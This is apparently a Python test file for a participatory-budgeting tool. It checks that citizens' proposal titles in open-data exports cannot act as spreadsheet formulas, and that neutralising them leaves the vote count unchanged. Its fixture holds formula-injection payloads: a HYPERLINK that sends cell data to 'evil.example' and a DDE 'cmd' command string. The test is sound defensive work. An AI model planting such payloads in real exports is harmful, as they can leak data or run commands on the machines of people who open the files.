"""The open-data files carry citizens' proposal titles: none may reach a spreadsheet as a formula,
and neutralising them changes no result."""

from __future__ import annotations

from deliberate.voting import exports
from deliberate.voting.formats import read_pb

TITLES = {
    "1": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "3": "+1+1",
    "4": "-2+3",
    "5": "A plain title - with a dash",
}


def _export() -> dict:
    return {
        "method": "approval",
        "title": "=cycle title",
        "organisation": "Cyngor",
        "cycle_id": "c1",
        "budget": None,
        "options": [{"id": key, "title": title, "cost": 0} for key, title in TITLES.items()],
        "ballots": [
            ("v1", None, 1, {"approvals": ["1", "2"]}),
            ("v2", None, 1, {"approvals": ["2", "5"]}),
            ("v3", None, 1, {"approvals": ["2", "3"]}),
        ],
    }


def test_pabulib_names_cannot_become_formulas():
    text = exports.pb_text(_export())
    election = read_pb("ballots.pb", text=text).election
    for option, title in TITLES.items():
        name = election.names[option]
        assert not name.startswith(exports.FORMULA_STARTS), name
        # Only a leading apostrophe is added; the reader still sees the whole title.
        assert name in (title, "'" + title)
    assert election.names["5"] == TITLES["5"]
    assert election.meta["description"] == "'=cycle title"


def test_neutralising_titles_does_not_change_the_count():
    export = _export()
    plain = {**export, "options": [{**o, "title": "x"} for o in export["options"]]}
    assert exports.result_json(exports.count(export)) == exports.result_json(exports.count(plain))
    assert exports.count(export).ranking[0] == "2"
